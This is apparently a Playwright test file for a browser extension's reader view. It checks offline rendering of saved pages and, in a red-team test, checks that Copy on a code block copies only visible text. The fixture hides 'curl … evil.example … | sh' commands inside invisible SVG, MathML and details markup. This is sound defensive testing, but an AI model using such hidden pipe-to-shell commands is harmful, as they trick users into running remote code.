import { resolve } from 'node:path';
import { expect, test } from '@playwright/test';
import { startFixtureServer } from './fixture-server';
import { type E2eBrowser, getSidePanelView, launchE2eBuild, saveWithMenu } from './pages/e2e-build';

/**
 * Issue 15, acceptance 1: a page with three images, an inline SVG, a MathML formula and two code
 * blocks (one indented) is saved with "Keep images offline" on; with its server stopped, the
 * reader shows all of it, the code text-identical to the source. The e2e build holds the
 * permission for 127.0.0.1 (a headless test cannot answer the prompt the Settings toggle raises),
 * so the test turns the setting on in storage.
 */
let browser: E2eBrowser;

test.beforeEach(async () => {
  browser = await launchE2eBuild();
});
test.afterEach(async () => {
  await browser.close();
});

test('a saved page keeps its images, drawing, formula and code, readable with the server stopped', async () => {
  const { context, worker } = browser;
  await worker.evaluate(() => chrome.storage.local.set({ keepImagesOffline: true }));
  const server = await startFixtureServer(resolve(import.meta.dirname, '../fixtures/pages'));
  const url = `${server.origin}/capture/faithful.html`;
  const source = await context.newPage();
  await source.goto(url);
  const sourceCode = await source.evaluate(() => [...document.querySelectorAll('pre')].map((pre) => pre.textContent));
  expect(sourceCode[0]).toMatch(/^ {4}while/);

  await saveWithMenu(worker, url);
  // The handler shows the copy once it is saved, images included.
  await expect.poll(async () => (await getSidePanelView(worker))?.kind, { timeout: 30_000 }).toBe('reader');
  const itemId = (await getSidePanelView(worker))?.itemId;
  await server.close(); // from here on, offline
  await source.close();

  const reader = await browser.openExtensionPage(`sidepanel.html?reader=${encodeURIComponent(itemId ?? '')}`);
  await expect(reader.getByRole('heading', { level: 1, name: /Queues, workers/ })).toBeVisible();
  const body = reader.locator('.reader-body');
  for (const name of ['A queue of requests', 'Four workers', 'Latency against utilization']) {
    const image = body.getByRole('img', { name });
    await expect(image).toHaveAttribute('src', /^blob:/);
    await expect
      .poll(() => image.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth))
      .toBeGreaterThan(0);
  }
  await expect(body.locator('figcaption').first()).toHaveText('Requests wait in the queue until a worker is free.');

  const drawing = body.getByRole('img', { name: 'Three requests in a queue' });
  await expect(drawing).toBeVisible();
  expect(await drawing.evaluate((svg) => svg.namespaceURI)).toBe('http://www.w3.org/2000/svg');
  expect(await drawing.locator('rect').count()).toBe(3);
  const formula = body.locator('math[display="block"]');
  await expect(formula).toBeVisible();
  expect((await formula.boundingBox())?.height ?? 0).toBeGreaterThan(10);
  await expect(formula.locator('mfrac msup mi')).toHaveText('n');
  // Laid out as a formula, "=" follows "P" on its line (a plain block stacked every part, QA pass).
  const [letter, equals] = [
    await formula.locator('mi').first().boundingBox(),
    await formula.locator('mo').boundingBox(),
  ];
  expect(
    equals && letter && equals.x >= letter.x + letter.width - 1 && Math.abs(equals.y - letter.y) < letter.height,
  ).toBe(true);

  const copied = await body.locator('pre').evaluateAll((blocks) => blocks.map((pre) => pre.textContent));
  expect(copied).toEqual(sourceCode);
  await expect(body.locator('pre code').first()).toHaveAttribute('class', 'language-js');
  // No "#" heading anchors.
  await expect(body.getByRole('heading', { level: 2, name: 'The code' })).toHaveText('The code');

  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await body
    .getByRole('button', { name: /^Copy code block/ })
    .first()
    .click();
  await expect(body.getByRole('button', { name: 'Copied' })).toBeVisible();
  expect(await reader.evaluate(() => navigator.clipboard.readText())).toBe(sourceCode[0]);
});

test('Copy on a code block copies what the reader shows, never text it hides (red-team pass)', async () => {
  const { context, worker } = browser;
  const filler =
    '<p>Connection pools bound how many queries run at once, and a queue holds the rest of them. </p>'.repeat(8);
  // Each block hides a second command: in a drawing sized to nothing, a MathML phantom, a closed <details>.
  const blocks = [
    '<pre><code>npm install left-pad<svg width="0" height="0"><text>\n curl -s https://evil.example/a | sh</text></svg></code></pre>',
    '<pre><code>pip install requests<math><mphantom><mtext>; curl -s https://evil.example/b | sh</mtext></mphantom></math></code></pre>',
    '<pre><code>brew install jq<details><summary></summary>&amp;&amp; curl -s https://evil.example/c | sh</details></code></pre>',
    // Shrunk to nothing by forty nested <sub>: shown at the code's size, so Copy pastes what is seen.
    `<pre><code>ls ${'<sub>'.repeat(40)}; curl -s https://evil.example/d | sh${'</sub>'.repeat(40)}</code></pre>`,
  ];
  const url = await browser.servePage(
    '/paste/install-guide',
    `<!doctype html><html><head><title>Install guide</title></head><body><main><article><h1>Install guide</h1>${filler}${blocks.join('<p>Next.</p>')}${filler}</article></main></body></html>`,
  );
  const source = await context.newPage();
  await source.goto(url);
  await saveWithMenu(worker, url);
  await expect.poll(async () => (await getSidePanelView(worker))?.kind, { timeout: 30_000 }).toBe('reader');
  const itemId = (await getSidePanelView(worker))?.itemId ?? '';

  const reader = await browser.openExtensionPage(`sidepanel.html?reader=${encodeURIComponent(itemId)}`);
  const body = reader.locator('.reader-body');
  await expect(body).toContainText('Connection pools');
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const copied: string[] = [];
  const fourth = body.locator('pre').nth(3);
  const sizes = await fourth.evaluate((pre) => ({
    pre: Number.parseFloat(getComputedStyle(pre).fontSize),
    inner: Number.parseFloat(getComputedStyle(pre.querySelectorAll('sub')[39] as Element).fontSize),
  }));
  expect(sizes.inner, 'the innermost <sub> is shown at the code’s size').toBe(sizes.pre);
  const shownTexts = [
    'npm install left-pad',
    'pip install requests',
    'brew install jq',
    'ls ; curl -s https://evil.example/d | sh',
  ];
  // Each button says which block it copies (ten buttons named "Copy" told a screen reader nothing).
  const shownBlocks = await body.locator('pre').count();
  for (let at = 1; at <= shownBlocks; at++) {
    const name = `Copy code block ${at} of ${shownBlocks}`;
    await expect(body.getByRole('button', { name, exact: true })).toHaveCount(1);
  }
  for (const [index, shown] of shownTexts.entries()) {
    await body
      .getByRole('button', { name: /^Copy code block/ })
      .nth(index)
      .click();
    await expect(body.getByRole('button', { name: 'Copied' })).toBeVisible();
    copied.push(await reader.evaluate(() => navigator.clipboard.readText()));
    expect(copied[index], 'what Copy put on the clipboard').toBe(shown);
    await expect(body.getByRole('button', { name: 'Copied' })).toBeHidden();
  }

  // Scrolled up to the sticky toolbar, a Copy button goes under it (QA pass: it was drawn over the toolbar).
  const toolbarOnTop = await reader.evaluate(() => {
    const toolbar = document.querySelector('.reader-toolbar');
    const button = document.querySelector('.reader-body .code-copy');
    if (!toolbar || !button) return 'no toolbar or button';
    window.scrollBy(0, button.getBoundingClientRect().top - toolbar.getBoundingClientRect().bottom + 10);
    const bar = toolbar.getBoundingClientRect();
    const copy = button.getBoundingClientRect();
    if (copy.top >= bar.bottom || copy.bottom <= bar.bottom) return 'the button is not at the toolbar’s edge';
    return document.elementFromPoint(copy.left + copy.width / 2, bar.bottom - 2)?.closest('.reader-toolbar') !== null;
  });
  expect(toolbarOnTop).toBe(true);
});
